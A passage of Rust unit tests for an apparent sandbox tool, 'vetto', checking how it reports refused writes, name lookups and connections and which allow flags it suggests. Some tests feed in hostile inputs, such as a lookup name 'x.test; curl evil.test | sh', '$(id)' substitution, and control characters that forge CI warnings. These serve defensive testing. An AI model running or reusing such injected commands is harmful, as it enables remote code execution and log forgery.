        for protected in [
            "~/app/node_modules/.bin/x",
            "~/app/vetto.toml",
            "~/app/.git/hooks/x",
        ] {
            assert!(
                fix_of(protected).starts_with("no flag"),
                "{protected}: {out:#?}"
            );
        }
        assert!(fix_of("~/app/node_modules/.bin/x").contains("a bin/ directory"));
        // A host cache, not the tool's home with its bin/, nor the cache
        // itself: the vetto-owned cache.
        assert_eq!(
            fix_of("~/.cargo/registry"),
            "--preset cargo  (policy: [filesystem] caches = [\"cargo\"])"
        );
        for l in &out {
            let fix = l.split("— to allow: ").nth(1).unwrap_or_default();
            for never in [
                "~/.cargo ",
                "~/.cargo/bin",
                ".bin",
                "vetto.toml",
                "hooks",
                "--allow-write ~ ",
            ] {
                assert!(!fix.contains(never), "{never} proposed: {l}");
            }
        }
    }

    #[test]
    fn a_refused_lookup_names_the_host_never_the_resolver() {
        let (decisions, conns) = npm_install();
        let out = lines(&decisions, 0, &conns, false, true, &ctx());
        let resolver = out
            .iter()
            .find(|l| l.contains("10.255.255.53"))
            .unwrap_or_else(|| panic!("{out:#?}"));
        assert!(resolver.contains("a name lookup, to the resolver 10.255.255.53:53 (×2)"));
        assert!(
            !resolver.contains("--allow-domain 10.255.255.53"),
            "{resolver}"
        );
        assert!(resolver.contains("--allow-domain HOST"), "{resolver}");
        let named = out
            .iter()
            .find(|l| l.contains("mirror.example.test"))
            .unwrap_or_else(|| panic!("{out:#?}"));
        assert!(
            named.contains("mirror.example.test (a name lookup) (×2)  — to allow: --allow-domain mirror.example.test  (policy: [network] allow = [\"mirror.example.test\"])"),
            "{named}"
        );
        let deny = out
            .iter()
            .find(|l| l.contains("paste.example.test"))
            .unwrap_or_else(|| unreachable!());
        assert!(
            deny.contains("no flag: the policy's [network] deny names it"),
            "{deny}"
        );
    }

    #[test]
    fn a_refused_destination_is_allowed_by_naming_it_not_by_opening_the_network() {
        let out = lines(
            &[connect("10.1.2.3:5432"), connect("[2001:db8::1]:443")],
            0,
            &[],
            false,
            true,
            &ctx(),
        );
        assert!(
            out[1].contains(
                "--allow-domain 10.1.2.3:5432  (policy: [network] allow = [\"10.1.2.3:5432\"])"
            ),
            "{out:?}"
        );
        assert!(
            out[2].contains("--allow-domain [2001:db8::1]:443 "),
            "{out:?}"
        );
    }

    /// A job chooses the names it looks up: one that is no host name
    /// (shell words, a wildcard, a port) is shown, escaped, but never
    /// offered as a flag or policy line to paste.
    #[test]
    fn a_hostile_lookup_name_is_never_offered_as_a_flag_to_paste() {
        for hostile in [
            "x.test; curl evil.test | sh",
            "*.evil.test",
            "evil.test:443",
            "$(id).test",
        ] {
            let conns = vec![(
                refused(Some(hostile), 53, ConnReason::DnsRefused, ConnVia::Dns),
                1,
            )];
            let out = lines(&[], 0, &conns, false, false, &ctx());
            let line = out
                .iter()
                .find(|l| l.contains("(a name lookup)"))
                .unwrap_or_else(|| panic!("{out:#?}"));
            assert!(!line.contains("--allow-domain"), "{line}");
            assert!(!line.contains("allow = ["), "{line}");
            assert!(line.contains("no flag"), "{line}");
        }
        let conns = vec![(
            refused(
                Some("ok.example.test"),
                53,
                ConnReason::DnsRefused,
                ConnVia::Dns,
            ),
            1,
        )];
        let out = lines(&[], 0, &conns, false, false, &ctx());
        assert!(
            out.iter()
                .any(|l| l.contains("--allow-domain ok.example.test")),
            "{out:#?}"
        );
    }

    #[test]
    fn control_characters_in_denied_paths_are_escaped() {
        let hostile = "/tmp/x\n::warning title=forged::\u{1b}]0;pwned\u{7}\u{9b}\"]";
        let decisions = vec![event("openat", hostile, Reason::OutsidePolicy)];
        let conns = vec![(
            refused(
                Some("a\u{1b}[2J.test\n::error::x"),
                53,
                ConnReason::DnsRefused,
                ConnVia::Dns,
            ),
            1,
        )];
        let out = lines(&decisions, 0, &conns, false, false, &ctx());
        assert!(
            out.iter().all(|l| !l.chars().any(char::is_control)),
            "{out:?}"
        );
        assert!(
            out[1].contains(&crate::text::escape(hostile).into_owned()),
            "{out:?}"
        );
    }

    #[test]
    fn under_audit_the_same_list_says_what_would_have_been_refused() {
        let decisions = vec![event("openat", "/opt/out", Reason::WouldDeny)];
        let mut ctx = ctx();
        ctx.preset = Some("did you mean `--preset node`?".into());
        let out = lines(&decisions, 0, &[], true, false, &ctx);
        assert!(
            out[0].contains("would have refused 1 operation(s)"),
            "{out:?}"
        );
        assert!(out[1].contains("--allow-write /opt "), "{out:?}");
        assert_eq!(out[2], "vetto: did you mean `--preset node`?");
        // Nothing denied: nothing said, not even the preset.
        assert!(lines(&[], 0, &[], false, false, &ctx).is_empty());
    }

    /// `[syscalls] expected = ["namespaces"]`: a nested sandbox's refused
    /// `clone` is no denial to fix; one line says it was refused as
    /// expected, and a refusal of another call is listed as before.
    #[test]
    fn a_refusal_the_policy_expects_is_one_line_and_no_denial() {
        let mut ctx = ctx();
        ctx.expected = vec!["clone".into(), "unshare".into()];
        ctx.expected_classes = vec!["namespaces"];
        let clone = event("clone", "", Reason::Forbidden);
        let out = lines(std::slice::from_ref(&clone), 0, &[], false, false, &ctx);
        assert_eq!(
            out,
            vec![
                "vetto: the policy expects (no finding) 1 refused call(s): [syscalls] expected = [\"namespaces\"]"
                    .to_string()
            ]
        );
        let ptrace = event("ptrace", "", Reason::Forbidden);
        let out = lines(&[clone, ptrace], 0, &[], false, false, &ctx);
        assert!(out[0].contains("denied 1 operation(s)"), "{out:?}");
        assert!(out[1].contains("syscall-denied"), "{out:?}");
        assert!(out[2].contains("policy expects"), "{out:?}");
    }

    /// `--allow-write ~/.cargo/registry` when it does not exist (and
    /// `~/.cargo` is read-only) grants nothing the job can use: the start
    /// line says so, with what to do; a path that exists, one whose
    /// holder is writable, and the presets' own paths are not mentioned.
    #[test]
    fn a_granted_write_path_that_does_not_exist_yet_is_said_to_be_unusable() {
        let dir = tempfile::tempdir().unwrap_or_else(|_| unreachable!());
        let root = dir.path();
        let (home, project) = (root.join("home"), root.join("project"));
        let file = root.join("mine.toml");
        let written = std::fs::create_dir_all(&project).and_then(|()| {
            std::fs::write(&file, "[filesystem]\nwrite = [\"~/.local/state/tool\"]\n")
        });
        assert!(written.is_ok());
        let req = crate::policy::LoadRequest {
            cwd: project.clone(),
            project: Some(project.clone()),
            policy_file: Some(file.clone()),
            policy_ref: None,
            home: home.clone(),
            session_tmp: root.join("tmp"),
            report_dir: None,
            env: Vec::new(),
            overrides: crate::policy::Overrides {
                allow_write: vec![
                    "~/.cargo/registry".into(),
                    "~/.cargo/git".into(),
                    "${PROJECT}/new/deep".into(),
                ],
                presets: vec!["claude-code".into()],
                ..Default::default()
            },
            job: None,
        };
        let policy = crate::policy::load(&req).unwrap_or_else(|e| panic!("{e}"));
        let there: Vec<PathBuf> = [
            "/",
            "home",
            "home/.cargo",
            "home/.cargo/git",
            "home/.local",
            "project",
        ]
        .iter()
        .map(|p| root.join(p))
        .chain([PathBuf::from("/")])
        .collect();
        let said = unmade_grants(&policy, &home, |p| {
            there.iter().any(|t| t == p) || !p.starts_with(root)
        });
        assert_eq!(
            said,
            [
                format!(
                    "{}:2:10 write \"~/.local/state/tool\" does not exist yet, and the job cannot create it (~/.local is not writable): \
                     it stays unwritable this session; create it first (mkdir -p ~/.local/state/tool), or grant an existing directory",
                    file.display()
                ),
                "--allow-write ~/.cargo/registry does not exist yet, and the job cannot create it (~/.cargo is not writable): \
                 it stays unwritable this session; create it first (mkdir -p ~/.cargo/registry), or grant an existing directory"
                    .to_string(),
            ],
            "{said:#?}"
        );
    }
}
